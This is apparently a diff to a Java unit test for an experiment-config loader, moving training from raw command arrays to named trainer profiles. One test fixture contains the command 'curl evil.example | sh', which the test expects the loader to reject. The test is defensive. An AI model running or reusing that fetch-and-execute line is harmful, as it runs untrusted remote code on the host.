@@ -13,7 +13,6 @@ import java.util.List;
 import lyceum.experiment.config.ExperimentConfig.StrategyName;
 import lyceum.engine.ModelRef;
 import lyceum.engine.OpenAiEndpoint;
-import lyceum.workers.TrainingCommand;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -258,33 +257,28 @@ class ExperimentConfigLoaderTest {
   }
 
   @Test
-  void theCommandTrainingBackendNeedsACommandWritingToItsOutput() throws IOException {
+  void theCommandTrainingBackendNamesATrainerProfileOfTheGpuNodes() throws IOException {
     Path ok = file("command.conf",
         "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
         "experiment.training {",
         "  backend = \"command\"",
-        "  command = [\"sh\", \"train.sh\", \"{data}\", \"{output}\"]",
-        "  command-timeout = 10m",
+        "  profile = \"trl\"",
         "}");
-    assertThat(ExperimentConfigLoader.load(ok).training().trainingCommand())
-        .isEqualTo(new TrainingCommand(List.of("sh", "train.sh", "{data}", "{output}"), Duration.ofMinutes(10)));
-    assertThat(ExperimentConfigLoader.defaults().training().trainingCommand()).isNull();
+    assertThat(ExperimentConfigLoader.load(ok).training().trainerProfile()).isEqualTo("trl");
+    assertThat(ExperimentConfigLoader.defaults().training().trainerProfile()).isNull();
 
-    Path noOutput = file("no-output.conf",
-        "experiment.training {",
-        "  backend = \"command\"",
-        "  command = [\"sh\", \"train.sh\", \"{data}\"]",
-        "}");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(noOutput))
+    Path noProfile = file("no-profile.conf",
+        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
+        "experiment.training.backend = \"command\"");
+    assertThatThrownBy(() -> ExperimentConfigLoader.load(noProfile))
         .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.command")
-        .hasMessageContaining(noOutput + ":3")
-        .hasMessageContaining("{output}");
+        .hasMessageContaining("experiment.training.profile")
+        .hasMessageContaining("lyceum.trainers");
 
     Path ownEngine = file("own-engine.conf",
         "experiment.training {",
         "  backend = \"command\"",
-        "  command = [\"sh\", \"train.sh\", \"{data}\", \"{output}\"]",
+        "  profile = \"trl\"",
         "}");
     assertThatThrownBy(() -> ExperimentConfigLoader.load(ownEngine))
         .isInstanceOf(ExperimentConfigException.class)
@@ -292,24 +286,57 @@ class ExperimentConfigLoaderTest {
         .hasMessageContaining(ownEngine + ":2")
         .hasMessageContaining("model.backend = openai");
 
-    Path tooLong = file("too-long.conf",
-        "experiment.training.command-timeout = 2h",
-        "experiment.training.backend = command",
-        "experiment.training.command = [train, \"{output}\"]",
-        "experiment.model { backend = openai, endpoint = \"http://127.0.0.1:8000\" }",
-        "experiment.runtime.training-timeout = 1h");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(tooLong))
+    Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
+    assertThatThrownBy(() -> ExperimentConfigLoader.load(profileWithoutCommand))
         .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.command-timeout")
-        .hasMessageContaining(tooLong + ":1")
-        .hasMessageContaining("runtime.training-timeout");
-
+        .hasMessageContaining("experiment.training.profile")
+        .hasMessageContaining(profileWithoutCommand + ":1")
+        .hasMessageContaining("backend = command");
     Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
     assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
         .isInstanceOf(ExperimentConfigException.class)
         .hasMessageContaining("experiment.training.backend")
         .hasMessageContaining(unknown + ":1")
         .hasMessageContaining("command");
+  }
+
+  @Test
+  void anExperimentCannotCarryATrainersArgvAndIsToldToDefineAProfile() throws IOException {
+    Path argv = file("argv.conf",
+        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
+        "experiment.training {",
+        "  backend = \"command\"",
+        "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
+        "}");
+    assertThatThrownBy(() -> ExperimentConfigLoader.load(argv))
+        .isInstanceOf(ExperimentConfigException.class)
+        .hasMessageContaining("experiment.training.command")
+        .hasMessageContaining(argv + ":4")
+        .hasMessageContaining("trainer profile")
+        .hasMessageContaining("lyceum.trainers.NAME");
+
+    Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
+    assertThatThrownBy(() -> ExperimentConfigLoader.load(timeout))
+        .isInstanceOf(ExperimentConfigException.class)
+        .hasMessageContaining("experiment.training.command-timeout")
+        .hasMessageContaining(timeout + ":1")
+        .hasMessageContaining("trainer profile");
+  }
+
+  @Test
+  void anExperimentJournaledWithAnArgvReadsButNamesNoProfileANodeHolds() {
+    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
+    ObjectNode old = ((ObjectNode) json.get("training")).put("backend", "command").put("commandTimeout", 3600.0);
+    old.remove("profile");
+    old.putArray("command").add("sh").add("train.sh").add("{output}");
+    String journaled = json.toString();
+
+    ExperimentConfig.Training training = ConfigJson.read(journaled).training();
+
+    assertThat(training.command()).containsExactly("sh", "train.sh", "{output}");
+    assertThat(training.commandTimeout()).isEqualTo(Duration.ofHours(1));
+    assertThat(training.trainerProfile()).isEqualTo(ExperimentConfig.Training.JOURNALED_ARGV);
+    assertThat(training.trainerProfile()).doesNotMatch("[A-Za-z0-9_-]+");
   }
 
   @Test
